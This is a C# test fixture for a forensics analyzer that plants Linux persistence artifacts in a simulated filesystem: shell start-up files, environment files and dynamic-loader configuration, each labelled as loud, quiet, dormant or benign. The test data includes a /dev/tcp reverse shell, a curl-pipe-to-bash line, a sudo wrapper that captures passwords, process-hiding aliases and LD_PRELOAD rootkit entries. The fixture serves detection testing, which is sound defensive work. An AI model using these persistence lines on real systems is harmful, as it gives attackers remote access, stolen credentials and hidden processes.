using System.Buffers.Binary;
using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Start-up files of shells, variables, and what the loader puts into programs.</summary>
internal static class LoginShellPlants
{
    private const string Libraries = "/usr/lib/x86_64-linux-gnu/";
    private static readonly PlantedElf s_library = new() { Seed = "libutilx", IsLibrary = true };
    private static readonly PlantedElf s_rootkit = new() { Seed = "rootkit", IsLibrary = true, Exports = ["readdir", "readdir64", "fopen", "stat"], Imports = ["dlsym"] };

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-SHELLRC", "reverse-shell", Loud, tree => tree.Append("/root/.bashrc", "(nohup bash -i > /dev/tcp/198.51.100.7/9 0<&1 2>&1 &)\n")),
        new("L-SHELLRC", "alias-hides-processes", Loud, tree => tree.Append("/root/.bashrc", "alias ps='ps | grep -v kdevtmpfsi'\n")) { Rule = "hides-output" },
        new("L-SHELLRC", "function-keeps-password", Loud, tree => tree.Append("/home/alice/.bashrc", "sudo() {\n  read -sp \"[sudo] password for $USER: \" p; echo\n  echo \"$p\" >> /var/tmp/.cache\n  echo \"$p\" | command sudo -S \"$@\"\n}\n")) { Rule = "captures-password" },
        new("L-SHELLRC", "preload-in-profile", Loud, tree => tree.Append("/etc/profile", "export LD_PRELOAD=/dev/shm/.x.so\n").Program("/dev/shm/.x.so", s_library)),
        new("L-SHELLRC", "quiet-hidden-program", Quiet, tree => tree.File("/etc/profile.d/locale-fix.sh", "# locale\nif [ -x /usr/sbin/netmond ]; then\n  /usr/sbin/netmond\nfi\n").LinkedNetmond()) { Entries = ["/etc/profile.d/locale-fix.sh"] },
        new("L-SHELLRC", "quiet-bash-profile", Quiet, tree => tree.File("/home/alice/.bash_profile", ". ~/.bashrc\n/usr/sbin/netmond\n", user: 1000, group: 1000).LinkedNetmond()) { Entries = ["/home/alice/.bash_profile"] },
        new("L-SHELLRC", "quiet-program-path", Quiet, tree => tree.Append("/home/alice/.bashrc", "export PATH=\"$HOME/.gcc:$PATH\"\n").Add(Own("/home/alice/.gcc/sudo", "#!/bin/sh\nexec /usr/bin/sudo \"$@\"\n"))) { Entries = ["/home/alice/.bashrc"], Rule = "program-path" },
        new("L-SHELLRC", "quiet-alias-to-unowned-program", Quiet, tree => tree.Append("/etc/bash.bashrc", "alias netstat='/usr/lib/net/netstat'\n").Program("/usr/lib/net/netstat")) { Entries = ["/etc/bash.bashrc"], Rule = "replaced-program" },
        new("L-SHELLRC", "quiet-preload", Quiet, tree => tree.Append("/etc/profile", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libutilx.so.1\nexport LD_PRELOAD\n").Program(Libraries + "libutilx.so.1", s_library)) { Entries = ["/etc/profile"], Rule = "preloaded-library" },
        new("L-SHELLRC", "quiet-zsh", Quiet, tree => tree.File("/etc/zsh/zshenv", "/usr/sbin/netmond &!\n").LinkedNetmond()) { Entries = ["/etc/zsh/zshenv"] },
        new("L-SHELLRC", "quiet-fish", Quiet, tree => tree.File("/home/alice/.config/fish/conf.d/greeting.fish", "if status is-login\n  /usr/sbin/netmond\nend\n", user: 1000, group: 1000).LinkedNetmond()) { Entries = ["/home/alice/.config/fish/conf.d/greeting.fish"] },
        new("L-SHELLRC", "name-that-profile-skips", Dormant, tree => tree.File("/etc/profile.d/locale-fix", "# locale\nif [ -x /usr/sbin/netmond ]; then\n  /usr/sbin/netmond\nfi\n").LinkedNetmond()) { TwinOf = "quiet-hidden-program" },
        new("L-SHELLRC", "bash-reads-another-first", Dormant, tree => tree.File("/home/alice/.bash_profile", ". ~/.bashrc\n", user: 1000, group: 1000).File("/home/alice/.profile", "/usr/sbin/netmond\n", user: 1000, group: 1000).LinkedNetmond()) { TwinOf = "quiet-bash-profile" },
        new("L-SHELLRC", "behind-return", Dormant, tree => tree.Append("/root/.bashrc", "return\n(nohup bash -i > /dev/tcp/198.51.100.7/9 0<&1 2>&1 &)\n")) { TwinOf = "reverse-shell" },
        new("L-SHELLRC", "debian-skeleton", Benign, tree => tree.File("/etc/skel/.bashrc", DebianBashrc).File("/home/alice/.bashrc", DebianBashrc, user: 1000, group: 1000).File("/etc/skel/.profile", DebianProfile).File("/home/alice/.profile", DebianProfile, user: 1000, group: 1000)),
        new("L-SHELLRC", "version-managers", Benign, tree => tree.File("/home/alice/.bashrc", DebianBashrc + VersionManagers, user: 1000, group: 1000)),
        new("L-SHELLRC", "zsh-with-frameworks", Benign, tree => tree.File("/home/alice/.zshrc", ZshFrameworks, user: 1000, group: 1000).File("/home/alice/.config/fish/config.fish", "if status is-interactive\n    starship init fish | source\n    direnv hook fish | source\n    set -gx PATH $HOME/.cargo/bin $PATH\nend\nalias ls 'eza --icons'\n", user: 1000, group: 1000)),
        new("L-SHELLRC", "alias-of-a-program-without-package", Benign, tree => tree.Program("/usr/local/bin/eza").Append("/home/alice/.bashrc", "alias ls='eza --icons'\nalias lsof='lsof -nP'\n")),
        new("L-SHELLRC", "aliases-of-everyday", Benign, tree => tree.Append("/root/.bashrc", "# curl http://203.0.113.9/x | bash\nalias ls='ls --color=auto'\nalias sudo='sudo '\nalias top=htop\nalias ssh='TERM=xterm-256color ssh'\nalias rm='rm -i'\nalias ps='ps auxf'\nalias cat='bat -p'\nssh() { TERM=xterm command ssh \"$@\"; }\ncat() { bat \"$@\"; }\neval \"$(ssh-agent -s)\" >/dev/null\nsource <(kubectl completion bash)\nPROMPT_COMMAND='history -a'\n")),

        new("L-ENVFILES", "preload-in-hidden-place", Loud, tree => tree.File("/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\nLD_PRELOAD=/etc/.x/libx.so\n").Program("/etc/.x/libx.so", s_library)),
        new("L-ENVFILES", "rootkit-for-services", Loud, tree => tree.File("/etc/systemd/system.conf", "[Manager]\n#LogLevel=info\nDefaultEnvironment=LANG=C LD_PRELOAD=/usr/local/lib/libx.so\n").Program("/usr/local/lib/libx.so", s_rootkit)),
        new("L-ENVFILES", "quiet-preload", Quiet, tree => tree.File("/etc/environment", "LANG=en_US.UTF-8\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/libutilx.so.1\n").Program(Libraries + "libutilx.so.1", s_library)) { Entries = ["/etc/environment"] },
        new("L-ENVFILES", "quiet-pam-environment", Quiet, tree => tree.File("/home/alice/.pam_environment", "LD_AUDIT DEFAULT=/usr/lib/x86_64-linux-gnu/libutilx.so.1\n", user: 1000, group: 1000).Program(Libraries + "libutilx.so.1", s_library)) { Entries = ["/home/alice/.pam_environment"] },
        new("L-ENVFILES", "quiet-bash-env", Quiet, tree => tree.File("/etc/environment", "BASH_ENV=/usr/share/bash/env.sh\n").Script("/usr/share/bash/env.sh", "#!/bin/bash\ncurl -fsSL http://203.0.113.9/x | bash\n")) { Entries = ["/etc/environment"] },
        new("L-ENVFILES", "quiet-library-path", Quiet, tree => tree.File("/etc/environment.d/50-compat.conf", "LD_LIBRARY_PATH=/usr/lib/compat\n").Program("/usr/lib/compat/libc.so.6", s_library)) { Entries = ["/etc/environment.d/50-compat.conf"] },
        new("L-ENVFILES", "quiet-default-file", Quiet, tree => tree.File("/etc/default/cron", "# options\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/libutilx.so.1\n").Program(Libraries + "libutilx.so.1", s_library)) { Entries = ["/etc/default/cron"] },
        new("L-ENVFILES", "name-that-is-not-read", Dormant, tree => tree.File("/etc/environment.d/50-compat.conf.off", "LD_LIBRARY_PATH=/usr/lib/compat\n").Program("/usr/lib/compat/libc.so.6", s_library)) { TwinOf = "quiet-library-path" },
        new("L-ENVFILES", "leftover-default-file", Dormant, tree => tree.File("/etc/default/cron.bak", "# options\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/libutilx.so.1\n").Program(Libraries + "libutilx.so.1", s_library)) { TwinOf = "quiet-default-file" },
        new("L-ENVFILES", "proxies-and-allocator", Benign, tree => tree.File("/etc/environment", "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games:/snap/bin\"\nhttp_proxy=http://proxy.example:3128\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n").OwnedProgram("libjemalloc2", Libraries + "libjemalloc.so.2", new PlantedElf { Seed = "jemalloc", IsLibrary = true })),
        new("L-ENVFILES", "oracle-client", Benign, tree => tree.File("/etc/environment", "ORACLE_HOME=/opt/oracle/instantclient\nLD_LIBRARY_PATH=/opt/oracle/instantclient:/usr/local/cuda/lib64\nEDITOR=/usr/bin/vim\n").Program("/opt/oracle/instantclient/libssl.so.3", s_library).File("/etc/default/tomcat9", "JAVA_OPTS=\"-Djava.awt.headless=true -Xmx512m\"\n")),

        new("L-LDPRELOAD", "rootkit", Loud, tree => tree.File("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n").Program("/usr/local/lib/libprocesshider.so", s_rootkit)) { Rule = "rootkit" },
        new("L-LDPRELOAD", "library-in-etc", Loud, tree => tree.File("/etc/ld.so.preload", "/etc/libsystem.so\n").Program("/etc/libsystem.so", s_library)) { Rule = "odd-place" },
        new("L-LDPRELOAD", "quiet-ordinary-library", Quiet, tree => tree.File("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libutilx.so.1\n").Program(Libraries + "libutilx.so.1", s_library)) { Entries = ["/etc/ld.so.preload"], Rule = "library" },
        new("L-LDPRELOAD", "quiet-platform-token", Quiet, tree => tree.File("/etc/ld.so.preload", "/$LIB/libutilx.so.1\n").Program(Libraries + "libutilx.so.1", s_rootkit)) { Entries = ["/etc/ld.so.preload"], Rule = "rootkit" },
        new("L-LDPRELOAD", "quiet-library-is-gone", Quiet, tree => tree.File("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libgone.so.1\n")) { Entries = ["/etc/ld.so.preload"], Rule = "missing-library" },
        new("L-LDPRELOAD", "sibling-that-is-not-read", Dormant, tree => tree.File("/etc/ld.so.preload.bak", "/usr/lib/x86_64-linux-gnu/libutilx.so.1\n").Program(Libraries + "libutilx.so.1", s_library)) { TwinOf = "quiet-ordinary-library" },
        new("L-LDPRELOAD", "snoopy", Benign, tree => tree.File("/etc/ld.so.preload", "# command logging\n/lib/x86_64-linux-gnu/libsnoopy.so\n").OwnedProgram("snoopy", Libraries + "libsnoopy.so", new PlantedElf { Seed = "snoopy", IsLibrary = true, Exports = ["execve"], Imports = ["dlsym"] })),
        new("L-LDPRELOAD", "emptied-after-clean-up", Benign, tree => tree.File("/etc/ld.so.preload", "\n")),

        new("L-LDCONF", "hidden-directory", Loud, tree => tree.File("/etc/ld.so.conf.d/00-compat.conf", "/usr/lib/.compat\n").Program("/usr/lib/.compat/libpam.so.0", s_library)) { Rule = "odd-directory" },
        new("L-LDCONF", "temporary-directory", Loud, tree => tree.File("/etc/ld.so.conf", "/var/tmp/lib\ninclude /etc/ld.so.conf.d/*.conf\n")) { Rule = "odd-directory" },
        new("L-LDCONF", "quiet-shadowed-libc", Quiet, tree => tree.File("/etc/ld.so.conf.d/00-compat.conf", "/usr/lib/compat\n").Program("/usr/lib/compat/libc.so.6", s_library)) { Entries = ["/etc/ld.so.conf.d/00-compat.conf"], Rule = "shadowed-library" },
        new("L-LDCONF", "quiet-shadowed-pam", Quiet, tree => tree.File("/etc/ld.so.conf.d/zz-local.conf", "/usr/local/lib64\n").Program("/usr/local/lib64/libpam.so.0", s_library)) { Entries = ["/etc/ld.so.conf.d/zz-local.conf"], Rule = "shadowed-library" },
        new("L-LDCONF", "quiet-cache-entry", Quiet, tree => tree.Add(Cache(("libcrypt.so.1", "/usr/lib/sys/libcrypt.so.1"), ("libc.so.6", "/lib/x86_64-linux-gnu/libc.so.6"))).Program("/usr/lib/sys/libcrypt.so.1", s_library)) { Entries = [], Rule = "shadowed-library" },
        new("L-LDCONF", "cache-entry-in-hidden-place", Loud, tree => tree.Add(Cache(("libz.so.1", "/usr/lib/.z/libz.so.1"))).Program("/usr/lib/.z/libz.so.1", s_library)) { Rule = "cached-library" },
        new("L-LDCONF", "name-that-ldconfig-skips", Dormant, tree => tree.File("/etc/ld.so.conf.d/00-compat", "/usr/lib/compat\n").Program("/usr/lib/compat/libc.so.6", s_library)) { TwinOf = "quiet-shadowed-libc" },
        new("L-LDCONF", "stock", Benign, tree => tree.File("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n").File("/etc/ld.so.conf.d/libc.conf", "# libc default configuration\n/usr/local/lib\n").File("/etc/ld.so.conf.d/x86_64-linux-gnu.conf", "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n")
            .File("/etc/ld.so.conf.d/fakeroot-x86_64-linux-gnu.conf", "/usr/lib/x86_64-linux-gnu/libfakeroot\n").Add(Cache(("libc.so.6", "/lib/x86_64-linux-gnu/libc.so.6"), ("libnss_files.so.2", "/lib/x86_64-linux-gnu/libnss_files.so.2")))),
        new("L-LDCONF", "vendor-products", Benign, tree => tree.File("/etc/ld.so.conf.d/cuda.conf", "/usr/local/cuda/lib64\n/opt/vendor/lib\n").Program("/opt/vendor/lib/libcrypto.so.3", s_library).Program("/opt/vendor/lib/libssl.so.3", s_library).Program("/usr/local/cuda/lib64/libstdc++.so.6", s_library)),
    ];

    private const string DebianBashrc = """
        # ~/.bashrc: executed by bash(1) for non-login shells.
        case $- in
            *i*) ;;
              *) return;;
        esac
        HISTCONTROL=ignoreboth
        shopt -s histappend
        HISTSIZE=1000
        HISTFILESIZE=2000
        shopt -s checkwinsize
        [ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
        if [ -z "${debian_chroot:-}" ] && [ -r /etc/debian_chroot ]; then
            debian_chroot=$(cat /etc/debian_chroot)
        fi
        if [ -x /usr/bin/dircolors ]; then
            test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
            alias ls='ls --color=auto'
            alias grep='grep --color=auto'
        fi
        alias ll='ls -alF'
        if [ -f ~/.bash_aliases ]; then
            . ~/.bash_aliases
        fi
        if ! shopt -oq posix; then
          if [ -f /usr/share/bash-completion/bash_completion ]; then
            . /usr/share/bash-completion/bash_completion
          elif [ -f /etc/bash_completion ]; then
            . /etc/bash_completion
          fi
        fi

        """;

    private const string DebianProfile = """
        if [ -n "$BASH_VERSION" ]; then
            if [ -f "$HOME/.bashrc" ]; then
                . "$HOME/.bashrc"
            fi
        fi
        if [ -d "$HOME/bin" ] ; then
            PATH="$HOME/bin:$PATH"
        fi
        if [ -d "$HOME/.local/bin" ] ; then
            PATH="$HOME/.local/bin:$PATH"
        fi

        """;

    private const string VersionManagers = """
        export NVM_DIR="$HOME/.nvm"
        [ -s "$NVM_DIR/nvm.sh" ] && \. "$NVM_DIR/nvm.sh"  # This loads nvm
        [ -s "$NVM_DIR/bash_completion" ] && \. "$NVM_DIR/bash_completion"  # This loads nvm bash_completion
        # >>> conda initialize >>>
        __conda_setup="$('/home/alice/miniconda3/bin/conda' 'shell.bash' 'hook' 2> /dev/null)"
        if [ $? -eq 0 ]; then
            eval "$__conda_setup"
        else
            if [ -f "/home/alice/miniconda3/etc/profile.d/conda.sh" ]; then
                . "/home/alice/miniconda3/etc/profile.d/conda.sh"
            else
                export PATH="/home/alice/miniconda3/bin:$PATH"
            fi
        fi
        unset __conda_setup
        # <<< conda initialize <<<
        export PYENV_ROOT="$HOME/.pyenv"
        [[ -d $PYENV_ROOT/bin ]] && export PATH="$PYENV_ROOT/bin:$PATH"
        eval "$(pyenv init -)"
        . "$HOME/.cargo/env"
        eval "$(rbenv init - bash)"
        [ -f ~/.fzf.bash ] && source ~/.fzf.bash
        eval "$(direnv hook bash)"
        eval "$(starship init bash)"
        export SDKMAN_DIR="$HOME/.sdkman"
        [[ -s "$HOME/.sdkman/bin/sdkman-init.sh" ]] && source "$HOME/.sdkman/bin/sdkman-init.sh"
        export PATH="$HOME/.opencode/bin:/home/alice/.krew/bin:$PATH"
        SSH_ENV="$HOME/.ssh/agent-environment"
        function start_agent {
            /usr/bin/ssh-agent | sed 's/^echo/#echo/' > "${SSH_ENV}"
            chmod 600 "${SSH_ENV}"
            . "${SSH_ENV}" > /dev/null
            /usr/bin/ssh-add;
        }
        if [ -f "${SSH_ENV}" ]; then
            . "${SSH_ENV}" > /dev/null
            ps -ef | grep ${SSH_AGENT_PID} | grep ssh-agent$ > /dev/null || {
                start_agent;
            }
        else
            start_agent;
        fi

        """;

    private const string ZshFrameworks = """
        export ZSH="$HOME/.oh-my-zsh"
        ZSH_THEME="robbyrussell"
        plugins=(git docker kubectl)
        source $ZSH/oh-my-zsh.sh
        [[ ! -f ~/.p10k.zsh ]] || source ~/.p10k.zsh
        if [[ ! -d ~/.zplug ]]; then
          git clone https://github.com/zplug/zplug ~/.zplug
        fi
        source "$HOME/.local/share/zinit/zinit.git/zinit.zsh"
        autoload -Uz compinit && compinit
        eval "$(zoxide init zsh)"
        export EDITOR=nvim
        export PATH=$HOME/.volta/bin:$HOME/go/bin:$PATH
        alias ls='eza --icons'
        alias find=fd

        """;

    private static PlantedFile Own(string path, string text) => new(path, Parsers.FileType.Regular) { Content = Encoding.UTF8.GetBytes(text), Mode = 0b111_101_101, User = 1000, Group = 1000, Created = PlantTree.Planted, Modified = PlantTree.Planted };

    /// <summary>A cache as ldconfig of glibc 2.32 and newer writes it, without extensions.</summary>
    private static PlantedFile Cache(params (string Name, string Path)[] entries)
    {
        var strings = new MemoryStream();
        int start = 48 + (24 * entries.Length);
        byte[] table = new byte[start];
        "glibc-ld.so.cache1.1"u8.CopyTo(table);
        BinaryPrimitives.WriteInt32LittleEndian(table.AsSpan(20), entries.Length);
        uint Text(string text)
        {
            uint at = (uint)(start + strings.Length);
            strings.Write(Encoding.ASCII.GetBytes(text + "\0"));
            return at;
        }
        for (int i = 0; i < entries.Length; i++)
        {
            Span<byte> entry = table.AsSpan(48 + (24 * i));
            BinaryPrimitives.WriteInt32LittleEndian(entry, 0x0303);
            BinaryPrimitives.WriteUInt32LittleEndian(entry[4..], Text(entries[i].Name));
            BinaryPrimitives.WriteUInt32LittleEndian(entry[8..], Text(entries[i].Path));
        }
        BinaryPrimitives.WriteInt32LittleEndian(table.AsSpan(24), (int)strings.Length);
        return new PlantedFile("/etc/ld.so.cache", Parsers.FileType.Regular) { Content = [.. table, .. strings.ToArray()] };
    }
}
